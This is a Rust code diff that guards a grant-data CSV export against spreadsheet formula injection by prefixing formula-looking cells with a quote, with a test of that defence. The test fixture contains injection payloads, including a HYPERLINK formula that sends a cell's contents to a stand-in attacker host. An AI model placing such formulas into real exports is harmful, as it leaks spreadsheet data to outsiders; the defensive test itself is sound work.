@@ -6,6 +6,7 @@ use chrono::NaiveDate;
 use super::scdl::PublishedTerms;
 /// The columns of the SCDL "subventions" 2.1.1 schema, in its order (the import reads the same).
 pub use super::scdl::FIELDS as SCDL_COLUMNS;
+use super::spreadsheet::neutralise;
 
 /// What the file says of one grant.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -47,6 +48,12 @@ impl GrantRecord {
     /// imported from an SCDL file has no payments in Essor: its `nature`, `conditionsVersement`,
     /// `datesPeriodeVersement`, `idRAE`, `notificationUE` and `pourcentageSubvention` are the
     /// file's, so a year exported, imported elsewhere and exported again reads the same.
+    ///
+    /// No cell is one a spreadsheet runs as a formula: every cell but `dateConvention`, `montant`
+    /// and `notificationUE` (which Essor writes itself) goes through [`neutralise`]. The texts
+    /// accepted since Essor refuses formula-looking input never start so and are written as
+    /// entered; one stored before gets a leading `'`, cut to the standard's maximum length where
+    /// it has one (`objet` and `conditionsVersement` 256 characters, `idRAE` 5).
     pub fn to_row(&self) -> [String; 16] {
         let convention = self.convention_signed_on.unwrap_or(self.decided_on);
         let mut paid = self.paid_on.clone();
@@ -57,6 +64,8 @@ impl GrantRecord {
             _ => convention.to_string(),
         };
         let one_line = |s: &str| s.split_whitespace().collect::<Vec<_>>().join(" ");
+        let text = |s: &str| neutralise(s).into_owned();
+        let bounded = |s: &str, max: usize| neutralise(s).chars().take(max).collect::<String>();
         let terms = match &self.published {
             Some(terms) => terms.clone(),
             None => PublishedTerms {
@@ -69,22 +78,22 @@ impl GrantRecord {
             },
         };
         [
-            one_line(&self.attributor_name),
-            self.attributor_siret.clone(),
+            text(&one_line(&self.attributor_name)),
+            text(&self.attributor_siret),
             convention.to_string(),
-            self.decision_reference.as_deref().map(one_line).unwrap_or_default(),
-            one_line(&self.beneficiary_name),
-            self.beneficiary_siret.clone(),
-            self.beneficiary_rna.clone().unwrap_or_default(),
-            one_line(&self.purpose).chars().take(256).collect(),
+            self.decision_reference.as_deref().map(|r| text(&one_line(r))).unwrap_or_default(),
+            text(&one_line(&self.beneficiary_name)),
+            text(&self.beneficiary_siret),
+            text(self.beneficiary_rna.as_deref().unwrap_or_default()),
+            bounded(&one_line(&self.purpose), 256),
             euros_with_point(self.granted_cents),
-            terms.nature,
-            terms.payment_conditions,
-            terms.payment_period,
-            terms.rae_id.unwrap_or_default(),
+            text(&terms.nature),
+            bounded(&terms.payment_conditions, 256),
+            text(&terms.payment_period),
+            bounded(terms.rae_id.as_deref().unwrap_or_default(), 5),
             if terms.eu_notified { "oui" } else { "non" }.into(),
-            terms.subsidy_share,
-            one_line(&self.scheme_name),
+            text(&terms.subsidy_share),
+            text(&one_line(&self.scheme_name)),
         ]
     }
 }
@@ -164,5 +173,48 @@ mod tests {
             row[9..15].to_vec(),
             ["aide en nature", "versement en trois fois", "2019-01-15/2020-06-30", "AB12", "oui", "0.45"]
         );
+    }
+
+    #[test]
+    fn texts_stored_before_that_a_spreadsheet_would_run_get_a_leading_quote() {
+        let mut r = record();
+        r.attributor_name = "-Rouen".into();
+        r.decision_reference = Some("=1+2".into());
+        r.beneficiary_name = "  =HYPERLINK(\"http://evil.example/?x=\"&A1,\"clic\")".into();
+        r.purpose = format!("+{}", "x".repeat(300));
+        r.scheme_name = "@cmd".into();
+        r.published = Some(PublishedTerms {
+            nature: "aide en nature".into(),
+            payment_conditions: format!("={}", "y".repeat(255)),
+            payment_period: "2019-01-15/2020-06-30".into(),
+            rae_id: Some("+1234".into()),
+            eu_notified: false,
+            subsidy_share: "0.45".into(),
+        });
+        let row = r.to_row();
+        assert_eq!(row[0], "'-Rouen");
+        assert_eq!(row[3], "'=1+2");
+        // One line first (its spaces trimmed), then the quote.
+        assert_eq!(row[4], "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"clic\")");
+        // Within the standard's lengths: the quote takes the place of the last character.
+        assert_eq!(row[7], format!("'+{}", "x".repeat(254)));
+        assert_eq!(row[10], format!("'={}", "y".repeat(254)));
+        assert_eq!(row[12], "'+123");
+        assert_eq!(row[15], "'@cmd");
+        // What Essor writes itself, and the texts it accepts today, are as they were.
+        assert_eq!((row[2].as_str(), row[8].as_str(), row[13].as_str()), ("2026-03-12", "60000.00", "non"));
+        assert_eq!(
+            record().to_row()[3..8].to_vec(),
+            [
+                "DEL-2026-114",
+                "Les Ateliers Solidaires",
+                "73282932000074",
+                "W763001234",
+                "Rénovation de l'atelier"
+            ]
+        );
+        for cell in row {
+            assert!(!crate::domain::spreadsheet::reads_as_formula(&cell), "{cell}");
+        }
     }
 }
